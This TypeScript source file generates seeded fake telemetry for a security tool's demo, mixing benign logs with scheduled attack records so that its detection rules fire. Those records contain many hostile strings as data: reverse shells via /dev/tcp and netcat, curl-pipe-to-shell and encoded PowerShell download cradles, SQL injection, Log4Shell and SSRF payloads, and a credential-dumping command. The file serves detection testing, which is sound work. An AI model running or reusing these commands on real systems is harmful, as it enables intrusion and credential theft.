// Simulated telemetry for `sightline demo`: a handful of hosts sending mostly benign records, with
// attacks of every family of the bundled rule pack woven in on a fixed schedule. Records have the
// shapes the normaliser recognises (the rule-pack fixtures' shapes), so the attacks trigger the
// bundled rules. Seeded: the same seed and the same `next` times give the same records.
import { between, pick, seededRandom, type Random } from '../shared/random.js';

type Json = string | number | boolean | null | Json[] | { [key: string]: Json };
export type JsonObject = { [key: string]: Json };

export const ATTACK_FAMILIES = ['web', 'auth', 'process', 'network', 'kubernetes', 'application'] as const;
export type AttackFamily = (typeof ATTACK_FAMILIES)[number];

/** The schedule repeats every cycle, with other attacker addresses. */
export const CYCLE_MS = 60_000;
/** Background (benign) records per second when no rate is given; attacks come on top (≈5%). */
export const DEFAULT_RATE = 50;

export interface GeneratedRecord {
  record: JsonObject;
  /** Which scheduled attack the record belongs to; null for benign traffic. */
  attack: { family: AttackFamily; name: string } | null;
}

export interface Traffic {
  /** The records due since the previous call (or the start), up to `now` (epoch ms), in time order. */
  next(now: number): GeneratedRecord[];
}

export interface TrafficOptions {
  seed: number;
  /** Epoch ms: the schedule's time zero. */
  start: number;
  /** Benign records per second. */
  rate?: number;
}

interface AttackContext {
  time: number;
  /** The record's position in its campaign (0-based). */
  index: number;
  /** An address the attacker uses this cycle: `<prefix>.<n>`. */
  attacker: (prefix: string) => string;
}

/** One attack: `count` records `every` ms apart, from `at` ms into each cycle. */
export interface Campaign {
  name: string;
  family: AttackFamily;
  at: number;
  count: number;
  every: number;
  build(context: AttackContext): JsonObject;
}

const iso = (time: number): string => new Date(time).toISOString();
const sysmonTime = (time: number): string => iso(time).replace('T', ' ').replace('Z', '');

const CHROME =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';
const BROWSERS = [
  CHROME,
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
];
const WORKSTATION = 'WS-FIN-07';
const K8S_NODE = 'k8s-node-1';
/** The hosts' public addresses (forwarders add them as host_ip), so devices show a location. */
const PUBLIC_ADDRESSES: Record<string, string> = {
  'web-01': '81.2.69.142',
  'web-02': '81.2.69.160',
  [K8S_NODE]: '3.120.1.1',
};
const hostAddress = (host: string): JsonObject => (PUBLIC_ADDRESSES[host] ? { host_ip: PUBLIC_ADDRESSES[host] } : {});

// ---------------------------------------------------------------------------------------------
// Record shapes (as in test/fixtures/rule-pack/records.ts)

function nginx(
  time: number,
  host: string,
  fields: { client: string; request: string; status?: string; agent?: string; referer?: string; bytes?: number },
): JsonObject {
  return {
    timestamp: iso(time),
    source: 'nginx',
    hostname: host,
    ...hostAddress(host),
    remote_addr: fields.client,
    remote_user: '-',
    request: fields.request,
    status: fields.status ?? '200',
    body_bytes_sent: fields.bytes ?? 5120,
    request_time: 0.042,
    http_referer: fields.referer ?? '-',
    http_user_agent: fields.agent ?? CHROME,
    http_x_forwarded_for: '-',
    upstream_addr: '10.0.1.12:8080',
    upstream_status: fields.status ?? '200',
  };
}

function syslog(time: number, host: string, program: string, message: string, facility = 'authpriv'): JsonObject {
  return { timestamp: iso(time), hostname: host, facility, severity: 'info', program, message };
}

function application(
  time: number,
  fields: { logger: string; message: string; level?: string; status?: string | number; host?: string },
): JsonObject {
  return {
    timestamp: iso(time),
    hostname: fields.host ?? 'web-02',
    level: fields.level ?? 'INFO',
    logger: fields.logger,
    message: fields.message,
    request_id: `req-${time.toString(36)}`,
    user_id: null,
    status: fields.status ?? 'ok',
    duration_ms: 87,
  };
}

interface ProcessFields {
  user: string;
  name: string;
  executable: string;
  command: string;
  parent?: { name: string; executable: string; command: string };
}

function linuxProcess(time: number, host: string, fields: ProcessFields): JsonObject {
  const parent = fields.parent ?? { name: 'bash', executable: '/bin/bash', command: 'bash' };
  return {
    type: 'process',
    timestamp: iso(time),
    host,
    ...hostAddress(host),
    endpoint_id: `agent-${host}`,
    user: fields.user,
    os: 'linux',
    process: {
      name: fields.name,
      pid: 20_000 + (time % 9_000),
      executable: fields.executable,
      command_line: fields.command,
      working_directory: '/',
    },
    parent: {
      name: parent.name,
      pid: 1_000 + (time % 900),
      executable: parent.executable,
      command_line: parent.command,
    },
  };
}

function linuxConnection(
  time: number,
  host: string,
  fields: {
    user: string;
    name: string;
    executable: string;
    ip: string;
    port: number;
    hostname?: string;
    source: string;
  },
): JsonObject {
  return {
    type: 'network',
    timestamp: iso(time),
    host,
    ...hostAddress(host),
    endpoint_id: `agent-${host}`,
    user: fields.user,
    os: 'linux',
    process: { name: fields.name, pid: 20_000 + (time % 9_000), executable: fields.executable },
    source: { ip: fields.source, port: 40_000 + (time % 20_000) },
    destination: { ip: fields.ip, port: fields.port, ...(fields.hostname ? { hostname: fields.hostname } : {}) },
    protocol: 'tcp',
    direction: 'outbound',
  };
}

function sysmonProcess(
  time: number,
  image: string,
  command: string,
  parentImage: string,
  parentCommand: string,
): JsonObject {
  return {
    EventID: 1,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Computer: WORKSTATION,
    UtcTime: sysmonTime(time),
    ProcessId: 4_000 + (time % 3_000),
    Image: image,
    CommandLine: command,
    CurrentDirectory: 'C:\\Users\\j.doe\\',
    User: 'CORP\\j.doe',
    IntegrityLevel: 'Medium',
    ParentProcessId: 3_100,
    ParentImage: parentImage,
    ParentCommandLine: parentCommand,
  };
}

function sysmonConnection(time: number, image: string, ip: string, port: number): JsonObject {
  return {
    EventID: 3,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Computer: WORKSTATION,
    UtcTime: sysmonTime(time),
    ProcessId: 6_120,
    Image: image,
    User: 'CORP\\j.doe',
    Protocol: 'tcp',
    Initiated: 'true',
    SourceIsIpv6: 'false',
    SourceIp: '10.20.0.31',
    SourcePort: String(49_152 + (time % 16_000)),
    DestinationIsIpv6: 'false',
    DestinationIp: ip,
    DestinationPort: String(port),
  };
}

function kubeAudit(
  time: number,
  fields: {
    verb: string;
    uri: string;
    objectRef: JsonObject;
    user?: JsonObject;
    code?: number;
    requestObject?: JsonObject;
    sourceIp?: string;
    agent?: string;
  },
): JsonObject {
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'RequestResponse',
    auditID: `8c1b1f2e-4a61-4a0e-9d8b-${time.toString(16).padStart(12, '0').slice(-12)}`,
    stage: 'ResponseComplete',
    requestURI: fields.uri,
    verb: fields.verb,
    user: fields.user ?? { username: 'alice@example.com', groups: ['developers', 'system:authenticated'] },
    sourceIPs: [fields.sourceIp ?? '10.0.4.20'],
    userAgent: fields.agent ?? 'kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46',
    objectRef: fields.objectRef,
    responseStatus: { metadata: {}, code: fields.code ?? 200 },
    ...(fields.requestObject ? { requestObject: fields.requestObject } : {}),
    requestReceivedTimestamp: iso(time),
    stageTimestamp: iso(time),
  };
}

function auditdAuth(
  time: number,
  host: string,
  account: string,
  address: string,
  result: 'success' | 'failed',
): JsonObject {
  // auditd's USER_AUTH with its msg='…' fields lifted to keys; `node` names the host (enriched format).
  return {
    type: 'USER_AUTH',
    msg: `audit(${(time / 1000).toFixed(3)}:${8_000 + (time % 1_000)}):`,
    node: host,
    pid: 4242,
    uid: 0,
    auid: 4294967295,
    ses: 4294967295,
    subj: 'unconfined',
    op: 'PAM:authentication',
    grantors: result === 'success' ? 'pam_unix' : '?',
    acct: account,
    exe: '/usr/sbin/sshd',
    addr: address,
    terminal: 'ssh',
    res: result,
  };
}

// ---------------------------------------------------------------------------------------------
// Benign traffic: weighted sources, each a function of time and the random stream.

const PAGES = [
  '/',
  '/products/1042',
  '/products/877?color=blue',
  '/api/v1/cart',
  '/static/app.3f9c1e.js',
  '/static/site.css',
  '/images/logo.svg',
  '/search?q=running+shoes',
  '/account/orders?page=2',
  '/login',
  '/checkout',
  '/api/v1/recommendations?limit=8',
  '/favicon.ico',
];
const LOGGERS: [string, (random: Random) => string][] = [
  ['com.example.orders.OrderService', (r) => `order ${between(r, 10_000, 99_999)} placed (${between(r, 1, 6)} items)`],
  ['com.example.auth.LoginController', (r) => `login succeeded for user customer${between(r, 1, 900)}@example.com`],
  ['app.http.middleware', (r) => `GET /api/v1/cart -> 200 in ${between(r, 3, 90)} ms`],
  ['com.example.payments.StripeClient', (r) => `payment intent pi_${between(r, 100_000, 999_999)} confirmed`],
  ['app.cache', () => 'cache warm-up finished: 412 keys'],
];
const K8S_BENIGN: ((time: number, random: Random) => JsonObject)[] = [
  (t) =>
    kubeAudit(t, {
      verb: 'list',
      uri: '/api/v1/namespaces/payments/pods',
      objectRef: { resource: 'pods', namespace: 'payments', apiVersion: 'v1' },
    }),
  (t, r) =>
    kubeAudit(t, {
      verb: 'get',
      uri: `/api/v1/namespaces/payments/pods/api-7d9f-${between(r, 10, 99)}/log`,
      objectRef: { resource: 'pods', subresource: 'log', namespace: 'payments' },
    }),
  (t) =>
    kubeAudit(t, {
      verb: 'patch',
      uri: '/api/v1/namespaces/payments/pods/api-7d9f-42/status',
      objectRef: { resource: 'pods', subresource: 'status', namespace: 'payments' },
      user: { username: `system:node:${K8S_NODE}`, groups: ['system:nodes', 'system:authenticated'] },
      sourceIp: '10.0.4.11',
      agent: 'kubelet/v1.31.2 (linux/amd64) kubernetes/5864a46',
    }),
  (t) =>
    kubeAudit(t, {
      verb: 'get',
      uri: '/api/v1/namespaces/payments/configmaps/api-config',
      objectRef: { resource: 'configmaps', namespace: 'payments', name: 'api-config' },
      user: { username: 'system:serviceaccount:payments:api', groups: ['system:serviceaccounts'] },
      sourceIp: '10.244.1.17',
      agent: 'api/1.8.0',
    }),
  (t) =>
    kubeAudit(t, {
      verb: 'update',
      uri: '/apis/apps/v1/namespaces/payments/replicasets/api-7d9f',
      objectRef: { resource: 'replicasets', namespace: 'payments', apiGroup: 'apps' },
      user: { username: 'system:serviceaccount:kube-system:replicaset-controller', groups: ['system:serviceaccounts'] },
      agent: 'kube-controller-manager/v1.31.2',
    }),
];

const BENIGN: [weight: number, build: (time: number, random: Random) => JsonObject][] = [
  [
    28,
    (t, r) =>
      nginx(t, 'web-01', {
        client: `198.18.${between(r, 0, 255)}.${between(r, 1, 254)}`,
        request: `${r() < 0.85 ? 'GET' : 'POST'} ${pick(r, PAGES)} HTTP/1.1`,
        status: r() < 0.01 ? '404' : pick(r, ['200', '200', '200', '304', '301']),
        agent: pick(r, BROWSERS),
        bytes: between(r, 200, 60_000),
      }),
  ],
  [
    10,
    (t, r) => ({
      // Apache's JSON access log on web-02
      timestamp: iso(t),
      source: 'apache',
      hostname: 'web-02',
      client_ip: `198.19.${between(r, 0, 255)}.${between(r, 1, 254)}`,
      request: `GET ${pick(r, PAGES)} HTTP/1.1`,
      status: 200,
      bytes: between(r, 200, 40_000),
      referer: 'https://shop.example.com/',
      user_agent: pick(r, BROWSERS),
    }),
  ],
  [
    4,
    (t, r) =>
      syslog(
        t,
        pick(r, ['web-01', 'web-02', 'db-01']),
        `sshd[${between(r, 1_000, 30_000)}]`,
        r() < 0.5
          ? `Accepted publickey for deploy from 10.0.0.5 port ${between(r, 40_000, 60_000)} ssh2: ED25519 SHA256:Qm3vT8pX4kLr`
          : 'pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)',
      ),
  ],
  [
    4,
    (t, r) =>
      syslog(
        t,
        pick(r, ['web-01', 'db-01']),
        `CRON[${between(r, 1_000, 30_000)}]`,
        pick(r, [
          '(root) CMD (test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily)',
          '(www-data) CMD (php /var/www/app/artisan schedule:run >> /dev/null 2>&1)',
          '(postgres) CMD (/usr/local/bin/backup-orders.sh)',
        ]),
        'cron',
      ),
  ],
  [
    1,
    (t) =>
      syslog(
        t,
        'web-01',
        'sudo',
        'deploy : TTY=pts/0 ; PWD=/srv/app ; USER=root ; COMMAND=/usr/bin/systemctl reload nginx',
        'authpriv',
      ),
  ],
  [
    2,
    (t, r) =>
      syslog(
        t,
        K8S_NODE,
        'kubelet',
        `"SyncLoop (PLEG): event for pod" pod="payments/api-7d9f-${between(r, 10, 99)}" event="ContainerStarted"`,
        'daemon',
      ),
  ],
  [1, (t) => auditdAuth(t, 'db-01', 'deploy', '10.0.0.5', 'success')],
  [
    20,
    (t, r) => {
      const [logger, message] = pick(r, LOGGERS);
      return application(t, { logger, message: message(r), status: 'ok', host: pick(r, ['web-01', 'web-02']) });
    },
  ],
  [
    5,
    (t, r) =>
      pick(r, [
        () =>
          sysmonProcess(
            t,
            'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
            '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer',
            'C:\\Windows\\explorer.exe',
            'C:\\Windows\\Explorer.EXE',
          ),
        () =>
          sysmonProcess(
            t,
            'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
            '"EXCEL.EXE" "C:\\Users\\j.doe\\Documents\\Q3 budget.xlsx"',
            'C:\\Windows\\explorer.exe',
            'C:\\Windows\\Explorer.EXE',
          ),
        () =>
          sysmonProcess(
            t,
            'C:\\Windows\\System32\\taskhostw.exe',
            'taskhostw.exe -RegisterDevice -ProtectionStateChanged',
            'C:\\Windows\\System32\\svchost.exe',
            'C:\\Windows\\system32\\svchost.exe -k netsvcs -p',
          ),
      ])(),
  ],
  [
    5,
    (t, r) =>
      sysmonConnection(
        t,
        pick(r, [
          'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
          'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
        ]),
        `198.18.${between(r, 0, 255)}.${between(r, 1, 254)}`,
        443,
      ),
  ],
  [
    5,
    (t, r) =>
      pick(r, [
        () =>
          linuxProcess(t, 'web-01', {
            user: 'deploy',
            name: 'git',
            executable: '/usr/bin/git',
            command: 'git pull --ff-only origin main',
          }),
        () =>
          linuxProcess(t, 'db-01', {
            user: 'postgres',
            name: 'pg_dump',
            executable: '/usr/bin/pg_dump',
            command: 'pg_dump -Fc orders -f /backup/orders.dump',
          }),
        () =>
          linuxProcess(t, 'web-02', {
            user: 'root',
            name: 'logrotate',
            executable: '/usr/sbin/logrotate',
            command: '/usr/sbin/logrotate /etc/logrotate.conf',
            parent: { name: 'cron', executable: '/usr/sbin/cron', command: '/usr/sbin/cron -f' },
          }),
        () =>
          linuxProcess(t, K8S_NODE, {
            user: 'root',
            name: 'containerd-shim',
            executable: '/usr/bin/containerd-shim-runc-v2',
            command: '/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id 3f9c1e',
            parent: { name: 'containerd', executable: '/usr/bin/containerd', command: '/usr/bin/containerd' },
          }),
      ])(),
  ],
  [
    7,
    (t, r) =>
      pick(r, [
        () =>
          linuxConnection(t, 'web-01', {
            user: 'www-data',
            name: 'php-fpm8.2',
            executable: '/usr/sbin/php-fpm8.2',
            ip: '10.0.2.10',
            port: 5432,
            source: '10.0.1.12',
          }),
        () =>
          linuxConnection(t, K8S_NODE, {
            user: 'root',
            name: 'containerd',
            executable: '/usr/bin/containerd',
            ip: `198.18.20.${between(r, 1, 40)}`,
            port: 443,
            hostname: 'registry.example.com',
            source: '10.0.4.11',
          }),
        () =>
          linuxConnection(t, 'db-01', {
            user: '_apt',
            name: 'http',
            executable: '/usr/lib/apt/methods/http',
            ip: '198.18.30.7',
            port: 80,
            hostname: 'deb.debian.org',
            source: '10.0.2.10',
          }),
      ])(),
  ],
  [8, (t, r) => pick(r, K8S_BENIGN)(t, r)],
];
const BENIGN_TOTAL = BENIGN.reduce((sum, [weight]) => sum + weight, 0);

function benign(time: number, random: Random): JsonObject {
  let roll = random() * BENIGN_TOTAL;
  for (const [weight, build] of BENIGN) {
    roll -= weight;
    if (roll < 0) return build(time, random);
  }
  return (BENIGN[0] as (typeof BENIGN)[number])[1](time, random);
}

// ---------------------------------------------------------------------------------------------
// Attacks. Each family appears within the first 20 s of a cycle, and every burst a correlation
// counts (SSH brute force, password spraying, 5xx and failed-login bursts) completes within 30 s.

const ENCODED_DOWNLOAD = // IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')
  'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhAC4AcABzADEAJwApAA==';
const WORDLIST = [
  'admin',
  'backup',
  'old',
  'test',
  'dev',
  'staging',
  'private',
  'db',
  'config',
  'upload',
  'wp-admin',
  'phpmyadmin',
  'cgi-bin',
  'api-docs',
  'console',
];
const SPRAYED = ['admin', 'oracle', 'postgres', 'ubuntu', 'test', 'git', 'jenkins', 'ftpuser'];
const campaign = (
  family: AttackFamily,
  name: string,
  at: number,
  build: Campaign['build'],
  count = 1,
  every = 1_000,
): Campaign => ({ name, family, at, count, every, build });
const webAttack =
  (request: string, extra: { status?: string; agent?: string; referer?: string } = {}) =>
  (c: AttackContext) =>
    nginx(c.time, 'web-01', { client: c.attacker('203.0.113'), request, ...extra });

export const attackSchedule: readonly Campaign[] = [
  // web
  campaign(
    'web',
    'SQL injection',
    1_000,
    (c) =>
      webAttack(
        c.index === 0
          ? 'GET /products.php?id=1%27%20UNION%20ALL%20SELECT%20username,password%20FROM%20users--%20- HTTP/1.1'
          : "GET /login.php?user=admin'+OR+'1'='1&pass=x HTTP/1.1",
        { agent: CHROME },
      )(c),
    2,
    400,
  ),
  campaign(
    'web',
    'cross-site scripting',
    2_500,
    webAttack('GET /search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1'),
  ),
  campaign('web', 'path traversal', 4_000, webAttack('GET /static/../../../../etc/passwd HTTP/1.1', { status: '400' })),
  campaign('web', 'Log4Shell JNDI lookup', 5_500, (c) =>
    webAttack('GET / HTTP/1.1', {
      agent: `\${jndi:ldap://${c.attacker('198.51.100')}:1389/Basic/Command/Base64/aWQ=}`,
    })(c),
  ),
  campaign(
    'web',
    'vulnerability scanner',
    7_000,
    (c) =>
      webAttack(`GET /${WORDLIST[c.index]}/ HTTP/1.1`, {
        status: '404',
        agent: 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)',
      })(c),
    3,
    300,
  ),
  campaign(
    'web',
    'web shell',
    8_500,
    (c) =>
      webAttack(
        c.index === 0
          ? 'POST /wp-content/uploads/2026/11/wso.php HTTP/1.1'
          : 'GET /uploads/avatar_91.php?cmd=whoami HTTP/1.1',
      )(c),
    2,
    700,
  ),
  campaign(
    'web',
    'command injection',
    20_000,
    webAttack('GET /tools/ping.php?host=127.0.0.1%3Bcat%20/etc/passwd HTTP/1.1'),
  ),
  campaign('web', 'exposed .env served', 24_000, webAttack('GET /.env HTTP/1.1', { status: '200' })),
  campaign(
    'web',
    'cloud metadata SSRF',
    27_000,
    webAttack('GET /fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/ HTTP/1.1'),
  ),
  campaign(
    'web',
    'content discovery',
    32_000,
    (c) =>
      nginx(c.time, 'web-01', {
        client: c.attacker('192.0.2'),
        request: `GET /${WORDLIST[c.index % WORDLIST.length]}${Math.floor(c.index / WORDLIST.length) || ''}.php HTTP/1.1`,
        status: '404',
        agent: 'python-requests/2.32.3',
      }),
    60,
    200,
  ),
  // auth
  campaign(
    'auth',
    'SSH brute force',
    1_500,
    (c) =>
      syslog(
        c.time,
        'web-01',
        'sshd[812]',
        `Failed password for ${c.index % 3 === 0 ? 'root' : `invalid user ${SPRAYED[c.index % SPRAYED.length]}`} from ${c.attacker('198.51.100')} port ${50_000 + c.index * 7} ssh2`,
      ),
    12,
    1_000,
  ),
  campaign('auth', 'sudo by a user not in sudoers', 6_000, (c) =>
    syslog(
      c.time,
      'db-01',
      'sudo',
      'mallory : user NOT in sudoers ; TTY=pts/2 ; PWD=/home/mallory ; USER=root ; COMMAND=/bin/bash',
    ),
  ),
  campaign(
    'auth',
    'SSH password spraying',
    12_000,
    (c) => auditdAuth(c.time, 'db-01', SPRAYED[c.index] as string, c.attacker('203.0.113'), 'failed'),
    6,
    1_500,
  ),
  campaign('auth', 'root shell through sudo', 22_000, (c) =>
    syslog(c.time, 'web-02', 'sudo', 'deploy : TTY=pts/3 ; PWD=/srv/app ; USER=root ; COMMAND=/usr/bin/su -'),
  ),
  campaign('auth', 'privileged account created', 41_000, (c) =>
    syslog(c.time, 'db-01', 'usermod[4301]', "add 'sysupdate' to group 'sudo'"),
  ),
  // process
  campaign('process', 'reverse shell from the web server', 3_000, (c) =>
    linuxProcess(c.time, 'web-02', {
      user: 'www-data',
      name: 'bash',
      executable: '/bin/bash',
      command: `bash -i >& /dev/tcp/${c.attacker('198.51.100')}/4444 0>&1`,
      parent: { name: 'php-fpm8.2', executable: '/usr/sbin/php-fpm8.2', command: 'php-fpm: pool www' },
    }),
  ),
  campaign('process', 'Office macro starting encoded PowerShell', 4_500, (c) => ({
    ...sysmonProcess(
      c.time,
      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      `powershell.exe -NoP -W Hidden -enc ${ENCODED_DOWNLOAD}`,
      'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\j.doe\\Downloads\\invoice_3391.doc"',
    ),
    OriginalFileName: 'PowerShell.EXE',
  })),
  campaign('process', 'download and execute', 7_500, (c) =>
    linuxProcess(c.time, 'web-01', {
      user: 'www-data',
      name: 'sh',
      executable: '/bin/sh',
      command: `sh -c "curl -fsSL http://${c.attacker('198.51.100')}/install.sh | sh"`,
    }),
  ),
  campaign('process', 'base64-decoded execution', 10_500, (c) =>
    linuxProcess(c.time, 'db-01', {
      user: 'postgres',
      name: 'bash',
      executable: '/bin/bash',
      command: 'bash -c "echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA== | base64 -d | bash"',
    }),
  ),
  campaign('process', 'crypto miner', 13_500, (c) =>
    linuxProcess(c.time, K8S_NODE, {
      user: 'root',
      name: 'kworker',
      executable: '/tmp/.X11/kworker',
      command:
        '/tmp/.X11/kworker -o stratum+tcp://pool.supportxmr.com:3333 -u 4AdUndXHHZ9pfQj27QPhiQ -p x --donate-level 1',
    }),
  ),
  campaign('process', 'credential dumping', 38_000, (c) =>
    sysmonProcess(
      c.time,
      'C:\\Users\\Public\\m64.exe',
      'm64.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
      'C:\\Windows\\System32\\cmd.exe',
      'cmd.exe',
    ),
  ),
  campaign('process', 'shell history cleared', 44_000, (c) =>
    linuxProcess(c.time, 'web-02', {
      user: 'root',
      name: 'rm',
      executable: '/usr/bin/rm',
      command: 'rm -f /root/.bash_history',
    }),
  ),
  campaign('process', 'cron job piping a download into a shell', 52_000, (c) =>
    syslog(
      c.time,
      'db-01',
      'CRON[22911]',
      `(root) CMD (curl -fsSL http://${c.attacker('198.51.100')}/.x/up.sh | sh)`,
      'cron',
    ),
  ),
  campaign('process', 'netcat reverse shell', 55_000, (c) =>
    linuxProcess(c.time, 'web-01', {
      user: 'www-data',
      name: 'nc',
      executable: '/usr/bin/nc.traditional',
      command: `nc -e /bin/sh ${c.attacker('198.51.100')} 4444`,
    }),
  ),
  // network
  campaign('network', 'backdoor port', 3_500, (c) =>
    linuxConnection(c.time, 'web-02', {
      user: 'www-data',
      name: 'bash',
      executable: '/bin/bash',
      ip: c.attacker('198.51.100'),
      port: 4444,
      source: '10.0.1.13',
    }),
  ),
  campaign('network', 'mining pool connection', 14_000, (c) =>
    linuxConnection(c.time, K8S_NODE, {
      user: 'root',
      name: 'kworker',
      executable: '/tmp/.X11/kworker',
      ip: '198.18.3.3',
      port: 443,
      hostname: 'pool.supportxmr.com',
      source: '10.0.4.11',
    }),
  ),
  campaign('network', 'Tor connection', 16_500, (c) =>
    sysmonConnection(c.time, 'C:\\Users\\j.doe\\AppData\\Local\\Temp\\tor\\tor.exe', '198.18.7.20', 9001),
  ),
  campaign('network', 'outbound SMB to the internet', 46_000, (c) =>
    sysmonConnection(c.time, 'System', '198.18.40.9', 445),
  ),
  // kubernetes
  campaign('kubernetes', 'exec into a pod', 5_000, (c) =>
    kubeAudit(c.time, {
      verb: 'create',
      uri: '/api/v1/namespaces/payments/pods/api-7d9f/exec?command=sh&container=api&stdin=true&tty=true',
      objectRef: { resource: 'pods', subresource: 'exec', namespace: 'payments', name: 'api-7d9f' },
      code: 101,
      sourceIp: c.attacker('198.51.100'),
    }),
  ),
  campaign('kubernetes', 'privileged pod', 11_000, (c) =>
    kubeAudit(c.time, {
      verb: 'create',
      uri: '/api/v1/namespaces/default/pods',
      objectRef: { resource: 'pods', namespace: 'default', name: 'debug-tools' },
      code: 201,
      requestObject: {
        kind: 'Pod',
        metadata: { name: 'debug-tools', namespace: 'default' },
        spec: {
          hostPID: true,
          containers: [{ name: 'tools', image: 'alpine:3.20', securityContext: { privileged: true } }],
        },
      },
    }),
  ),
  campaign(
    'kubernetes',
    'secret reads',
    15_000,
    (c) =>
      c.index === 0
        ? kubeAudit(c.time, {
            verb: 'list',
            uri: '/api/v1/namespaces/payments/secrets',
            objectRef: { resource: 'secrets', namespace: 'payments' },
          })
        : kubeAudit(c.time, {
            verb: 'get',
            uri: '/api/v1/namespaces/payments/secrets/stripe-live-key',
            objectRef: { resource: 'secrets', namespace: 'payments', name: 'stripe-live-key' },
            user: {
              username: 'system:serviceaccount:payments:api',
              groups: ['system:serviceaccounts', 'system:serviceaccounts:payments'],
            },
            sourceIp: '10.244.1.17',
          }),
    2,
    500,
  ),
  campaign('kubernetes', 'cluster-admin granted', 34_000, (c) =>
    kubeAudit(c.time, {
      verb: 'create',
      uri: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings',
      code: 201,
      objectRef: { resource: 'clusterrolebindings', apiGroup: 'rbac.authorization.k8s.io', name: 'ops-maint' },
      requestObject: {
        kind: 'ClusterRoleBinding',
        metadata: { name: 'ops-maint' },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
        subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'default' }],
      },
    }),
  ),
  campaign('kubernetes', 'host file system mounted', 50_000, (c) =>
    kubeAudit(c.time, {
      verb: 'create',
      uri: '/api/v1/namespaces/default/pods',
      objectRef: { resource: 'pods', namespace: 'default', name: 'node-shell' },
      code: 201,
      requestObject: {
        kind: 'Pod',
        spec: {
          containers: [{ name: 'shell', image: 'alpine:3.20', volumeMounts: [{ name: 'host', mountPath: '/host' }] }],
          volumes: [{ name: 'host', hostPath: { path: '/' } }],
        },
      },
    }),
  ),
  // application
  campaign('application', 'SQL syntax error', 2_000, (c) =>
    application(c.time, {
      level: 'ERROR',
      logger: 'app.catalogue.repository',
      status: 'error',
      message:
        "SQLSTATE[42000]: Syntax error or access violation: 1064 You have an error in your SQL syntax; check the manual near ''' UNION SELECT' at line 1",
    }),
  ),
  campaign(
    'application',
    'server error burst',
    17_000,
    (c) =>
      application(c.time, {
        level: 'ERROR',
        logger: 'app.http.middleware',
        status: 500,
        message: `POST /api/v1/orders -> 500 internal error (request ${c.index})`,
      }),
    30,
    300,
  ),
  campaign(
    'application',
    'failed-login burst',
    19_000,
    (c) =>
      application(c.time, {
        level: 'WARN',
        logger: 'com.example.auth.LoginController',
        status: 'denied',
        message: `login failed for user user${c.index}@example.com: invalid credentials (attempt 1 of 10)`,
      }),
    24,
    350,
  ),
  campaign('application', 'admin function denied', 26_000, (c) =>
    application(c.time, {
      level: 'WARN',
      logger: 'app.http.middleware',
      status: 'denied',
      message: 'access denied for user usr_4be1c0a9d2f3 to /admin/users: missing role admin',
    }),
  ),
];

// ---------------------------------------------------------------------------------------------

export function createTraffic(options: TrafficOptions): Traffic {
  const { seed, start } = options;
  const rate = options.rate ?? DEFAULT_RATE;
  const random = seededRandom(seed);
  const salt = Math.floor(seededRandom(seed ^ 0x5eed)() * 250);
  let last = start;
  let owed = 0;

  return {
    next(now) {
      if (now <= last) return [];
      const due: { time: number; generated: GeneratedRecord }[] = [];
      owed += (rate * (now - last)) / 1000;
      const count = Math.floor(owed);
      owed -= count;
      for (let i = 0; i < count; i++) {
        const time = Math.round(last + ((i + 1) * (now - last)) / (count + 1));
        due.push({ time, generated: { record: benign(time, random), attack: null } });
      }
      // Attacks whose time falls in [last, now): campaigns never outlast their cycle.
      const from = last - start;
      const to = now - start;
      for (let cycle = Math.floor(from / CYCLE_MS); cycle * CYCLE_MS < to; cycle++) {
        attackSchedule.forEach((item, position) => {
          const attacker = (prefix: string) => `${prefix}.${1 + ((salt + cycle * 53 + position * 29) % 250)}`;
          for (let index = 0; index < item.count; index++) {
            const offset = cycle * CYCLE_MS + item.at + index * item.every;
            if (offset < from || offset >= to) continue;
            const time = start + offset;
            due.push({
              time,
              generated: {
                record: item.build({ time, index, attacker }),
                attack: { family: item.family, name: item.name },
              },
            });
          }
        });
      }
      last = now;
      return due.sort((a, b) => a.time - b.time).map((entry) => entry.generated);
    },
  };
}
